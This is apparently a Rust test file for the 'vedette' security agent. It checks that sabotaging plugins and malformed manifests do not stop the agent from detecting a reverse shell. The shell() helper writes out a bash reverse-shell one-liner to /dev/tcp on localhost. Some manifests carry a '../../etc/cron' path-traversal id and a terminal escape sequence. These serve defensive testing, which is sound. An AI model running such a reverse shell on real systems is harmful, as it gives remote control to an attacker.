//! Plugins that do harm hurt themselves alone: others find what they look for, and the agent says
//! who it was.

use vedette_tests::{
    agent::Options,
    guests::{Component, PluginDirectory},
    listener::Wire,
    need::Need,
    process::{status_field, wait_for},
    remote_shell::RemoteShell,
    require,
    tools::{Names, Place},
    workspace,
};

/// More than the agent, its bundled plugins and the guests' declared memory take together.
const MOST_MEMORY_KB: u64 = 512 * 1024;

fn shell() -> RemoteShell {
    RemoteShell::start(Place::Host, Names::Own, Wire::Clear, |tools, port| {
        let bash = tools.get("bash");
        format!("{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
    })
}

fn does_no_harm(deed: &str) {
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    let directory = PluginDirectory::bundled();
    directory.put("saboteur", &Component::saboteur(deed));
    let agent = Options::default().plugins(directory.path()).start();
    let name = format!("saboteur-{deed}");

    // While it does its deed, and after it has been dealt with.
    for time in ["at once", "afterwards"] {
        let running = shell();
        let root = running.root();
        agent.expect(&format!("the reverse shell {time}"), |finding| {
            finding.category() == "reverse-shell" && finding.ancestors().contains(&root)
        });
        drop(running);
        let named = wait_for(vedette_tests::agent::PATIENCE, || {
            // Every exec gives it another chance.
            let _ = std::process::Command::new("true").status();
            let said = agent
                .findings()
                .iter()
                .any(|finding| finding.is_health() && finding.json.to_string().contains(&name));
            (said || agent.errors().contains(&name)).then_some(())
        });
        assert!(
            named.is_some(),
            "the agent names {name}: {}",
            agent.describe()
        );
    }
    let peak = status_field(agent.pid(), "VmHWM")
        .and_then(|size| size.split_whitespace().next()?.parse().ok());
    assert!(
        peak.is_some_and(|kilobytes: u64| kilobytes < MOST_MEMORY_KB),
        "memory of the agent: {peak:?} KB"
    );
    let stopped = agent.stop();
    let strangers = stopped.findings.iter().filter(|finding| {
        !finding.is_health()
            && finding.text("/plugin") != name
            && finding.category() != "reverse-shell"
    });
    assert_eq!(
        strangers.count(),
        0,
        "nothing else is found: {:#?}",
        stopped.accusations()
    );
    assert_eq!(
        stopped.of("reverse-shell").len(),
        2,
        "{:#?}",
        stopped.accusations()
    );
    if deed != "flood" {
        let health = stopped.of("health");
        let said = health
            .iter()
            .any(|finding| finding.json.to_string().contains(&name));
        assert!(said, "a health finding names {name}: {health:#?}");
    }
}

#[test]
fn endless_loop() {
    does_no_harm("loops");
}

#[test]
fn memory_bomb() {
    does_no_harm("hoard");
}

#[test]
fn trap() {
    does_no_harm("traps");
}

#[test]
fn giant_output() {
    does_no_harm("flood");
}

#[test]
fn absurd_manifests() {
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    let directory = PluginDirectory::bundled();
    let sane = Component::saboteur("peace");
    let manifest = |text: &str, other: &str| sane.with(text, other).bytes().to_vec();
    let absurd = [
        (
            "memory",
            manifest("memory = \"16 MiB\"", "memory = \"16 TiB\""),
        ),
        (
            "category",
            manifest("category = \"policy\"", "category = \"poetry\""),
        ),
        ("syntax", manifest("[config]", "[[[[[[[[")),
        (
            "own-id",
            manifest("id = \"saboteur-peace\"", "id = \"vedette\"       "),
        ),
        (
            "path-id",
            manifest("id = \"saboteur-peace\"", "id = \"../../etc/cron\""),
        ),
        ("empty", Vec::new()),
        ("garbage", workspace::random_hex(4096).into_bytes()),
        ("huge", vec![0; 64 << 20]),
    ];
    for (name, bytes) in &absurd {
        directory.put_bytes(name, bytes);
    }
    // A title that clears the terminal: refused or shown harmlessly.
    let title = sane.with("title = \"Saboteur\"", "title = \"\\u001b[J\"");
    directory.put("steering", &title);
    let agent = Options::default().plugins(directory.path()).start();
    let running = shell();
    let root = running.root();
    agent.expect("the reverse shell", |finding| {
        finding.category() == "reverse-shell" && finding.ancestors().contains(&root)
    });
    drop(running);
    let errors = agent.errors();
    for (name, _) in &absurd {
        assert!(
            errors.contains(&format!("{name}.wasm")),
            "it is said that {name}.wasm is refused: {errors}"
        );
    }
    assert!(
        !errors.contains('\u{1b}'),
        "no manifest steers the terminal: {errors:?}"
    );
    agent.stop();
}
